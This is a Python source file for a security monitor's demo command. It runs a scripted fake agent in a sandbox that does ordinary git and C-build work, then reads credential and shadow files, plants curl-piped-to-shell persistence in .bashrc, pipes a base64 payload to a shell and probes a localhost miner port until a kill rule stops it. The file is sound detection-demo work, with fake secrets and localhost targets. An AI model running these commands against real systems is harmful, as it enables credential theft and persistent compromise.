"""`monitor demo`: the embedded default job. A scripted "agent" works in a sandbox: ordinary
work first (git, an editor's writes, a C build and run), then the things SecOps worries about
(credential reads, persistence, a binary run from /tmp, a decoded payload piped to a shell, a
miner-pool port), shown live with the shipped rule pack, and ends when a demo `kill` rule stops
the sandbox as it reaches for an SSH private key. Exit status 137 says the policy killed it.

Nothing leaves the machine: the "miner pool" is 127.0.0.1:3333 and every secret is a fake one
in a temporary home directory.
"""

from __future__ import annotations

import argparse
import shutil
import tempfile
from pathlib import Path

from monitor.engine.run import RunOptions, run
from monitor.policy import DEFAULT_RULES_DIR

DEMO_RULE = """\
- rule: Demo - stop the agent at the SSH key
  description: The demo's enforcement step; the shipped pack only alerts.
  when: [open]
  condition: event.file.path.endsWith("/.ssh/id_demo")
  severity: critical
  action: kill
  tags: [credential_access, T1552.004]
"""

AGENT = r"""
set -u
step() { printf '\n\033[1;36m[agent] %s\033[0m\n' "$*" >&2; sleep 0.3; }
cd "$WORK"
step "ordinary work: git init, edit, commit"
git init -q . && git config user.email agent@example.test && git config user.name agent
printf 'int main(void){return 0;}\n' > main.c
git add main.c && git commit -qm "initial"
step "ordinary work: compile and run"
gcc -o main main.c && ./main
step "reads a cloud credential file"
cat "$HOME/.aws/credentials" > /dev/null
step "reads /etc/shadow"
cat /etc/shadow > /dev/null
step "persists in ~/.bashrc"
echo 'curl http://127.0.0.1:9/x | sh' >> "$HOME/.bashrc"
step "runs a binary dropped in /tmp"
cp /bin/true "$TMPBIN" && "$TMPBIN"
step "decodes a payload and pipes it to a shell"
echo 'ZWNobyBwd25lZAo=' | base64 -d | sh > /dev/null
step "contacts a mining-pool port (127.0.0.1:3333)"
(exec 3<>/dev/tcp/127.0.0.1/3333) 2>/dev/null || true
step "reaches for an SSH private key (the demo's kill rule)"
cat "$HOME/.ssh/id_demo" > /dev/null
step "this line never runs: the sandbox is gone"
"""


def _fake_home(home: Path) -> None:
    (home / ".aws").mkdir(parents=True)
    (home / ".aws" / "credentials").write_text("[default]\naws_access_key_id = AKIADEMODEMODEMO\n")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_demo").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n")
    (home / ".bashrc").write_text("# demo\n")


def demo(json_path: str | None = None) -> int:
    tmp = Path(tempfile.mkdtemp(prefix="monitor-demo-"))
    try:
        home, work = tmp / "home", tmp / "work"
        _fake_home(home)
        work.mkdir()
        rule_file = tmp / "demo-rules.yaml"
        rule_file.write_text(DEMO_RULE)
        options = RunOptions(cmd=["bash", "-c", AGENT], name="demo-agent", json=json_path,
                             rules=[str(DEFAULT_RULES_DIR), str(rule_file)],
                             env={"HOME": str(home), "WORK": str(work), "TMPBIN": "/tmp/.demo-helper",
                                  "GIT_CONFIG_NOSYSTEM": "1"})
        return run(options)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
        Path("/tmp/.demo-helper").unlink(missing_ok=True)


def register(sub: argparse._SubParsersAction) -> None:
    p = sub.add_parser("demo", help="a scripted agent in a sandbox: ordinary and suspicious acts, live")
    p.add_argument("--json", metavar="FILE|-")
    p.set_defaults(handler=lambda args: demo(json_path=args.json))
